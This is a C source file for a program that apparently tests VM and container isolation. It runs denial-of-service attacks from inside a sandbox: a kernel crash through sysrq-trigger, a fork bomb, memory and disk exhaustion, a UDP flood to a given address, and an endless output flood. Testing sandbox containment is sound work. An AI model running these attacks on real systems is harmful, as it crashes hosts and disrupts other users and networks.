// SPDX-License-Identifier: Apache-2.0
//
// attacker ATTACK DIR ADDR: what somebody with a root shell does to whoever is next door, until
// they are stopped. The same program for a VM and for a container, linked statically.
//
//   panic   has the kernel crash: by the key for that, or by eating memory once it is to panic then
//   fork    as many processes as there can be, all of them busy with making more
//   memory  as much as there is, again and again
//   disk    takes all the space below DIR, then writes there and flushes without a pause
//   flood   small datagrams to ADDR, to and from ever other ports, as fast as they go
//   output  writes to standard output without an end
//
// Says "attacking" before it begins. What it is refused it says in a line "refused: ...", and ends
// with status 1.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MIB = 1 << 20, PIECE = 16 * MIB, FILES = 1 << 16, BATCH = 64, SOCKETS = 31 };

static bool write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	bool done = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);

	if (!done)
		printf("refused: %s: %s\n", path, strerror(errno));
	if (fd >= 0)
		close(fd);
	return done;
}

_Noreturn static void eat_memory(void)
{
	for (;;) {
		void *memory =
			mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (memory != MAP_FAILED)
			memset(memory, 1, MIB);
	}
}

static int attack_panic(void)
{
	// One that nobody has made read-only.
	static const char own[] = "/tmp/proc";

	if (mkdir(own, 0700) || mount("proc", own, "proc", 0, NULL))
		printf("refused: %s: %s\n", own, strerror(errno));
	if (write_file("/proc/sysrq-trigger", "c") || write_file("/tmp/proc/sysrq-trigger", "c"))
		pause();
	if (write_file("/proc/sys/vm/panic_on_oom", "2") ||
	    write_file("/tmp/proc/sys/vm/panic_on_oom", "2"))
		eat_memory();
	return EXIT_FAILURE;
}

_Noreturn static void attack_fork(void)
{
	signal(SIGTERM, SIG_IGN);
	for (;;)
		fork();
}

// The eater is killed, and its parent makes the next.
_Noreturn static void attack_memory(void)
{
	for (;;) {
		pid_t eater = fork();

		if (eater == 0)
			eat_memory();
		if (eater > 0)
			waitpid(eater, NULL, 0);
	}
}

static int attack_disk(const char *dir)
{
	static char block[MIB];
	char name[16];
	int fd = -1;

	if (chdir(dir)) {
		printf("refused: %s: %s\n", dir, strerror(errno));
		return EXIT_FAILURE;
	}
	memset(block, 1, sizeof(block));
	for (int i = 0; i < FILES; i++) {
		snprintf(name, sizeof(name), "fill.%d", i);
		int file = open(name, O_RDWR | O_CREAT | O_CLOEXEC, 0600);

		if (file < 0 || posix_fallocate(file, 0, PIECE))
			break;
		if (fd < 0)
			fd = file;
	}
	if (fd < 0)
		fd = open(name, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	for (off_t offset = 0;; offset = (offset + MIB) % PIECE) {
		pwrite(fd, block, sizeof(block), offset);
		fsync(fd);
	}
}

// Each datagram is a connection of its own to whoever keeps count of them.
static int attack_flood(const char *address)
{
	struct sockaddr_in to[BATCH];
	struct mmsghdr batch[BATCH] = { 0 };
	struct iovec byte = { "", 1 };
	struct in_addr addr;
	int sockets[SOCKETS];
	in_port_t port = 1024;

	if (inet_pton(AF_INET, address, &addr) != 1) {
		printf("refused: no address: %s\n", address);
		return EXIT_FAILURE;
	}
	for (int i = 0; i < SOCKETS; i++)
		sockets[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	for (unsigned int turn = 0;; turn++) {
		for (int i = 0; i < BATCH; i++, port++) {
			to[i] = (struct sockaddr_in){ .sin_family = AF_INET,
						      .sin_port = htons(port),
						      .sin_addr = addr };
			batch[i].msg_hdr = (struct msghdr){ .msg_name = &to[i],
							    .msg_namelen = sizeof(to[i]),
							    .msg_iov = &byte,
							    .msg_iovlen = 1 };
		}
		sendmmsg(sockets[turn % SOCKETS], batch, BATCH, 0);
	}
}

// The host has to put it somewhere.
_Noreturn static void attack_output(void)
{
	static char text[1 << 16];

	memset(text, '\n', sizeof(text));
	for (;;)
		write(STDOUT_FILENO, text, sizeof(text));
}

int main(int argc, char **argv)
{
	const char *attack = argc == 4 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	puts("attacking");
	if (strcmp(attack, "panic") == 0)
		return attack_panic();
	if (strcmp(attack, "fork") == 0)
		attack_fork();
	if (strcmp(attack, "memory") == 0)
		attack_memory();
	if (strcmp(attack, "disk") == 0)
		return attack_disk(argv[2]);
	if (strcmp(attack, "flood") == 0)
		return attack_flood(argv[3]);
	if (strcmp(attack, "output") == 0)
		attack_output();
	fputs("usage: attacker panic|fork|memory|disk|flood|output DIR ADDR\n", stderr);
	return 2;
}
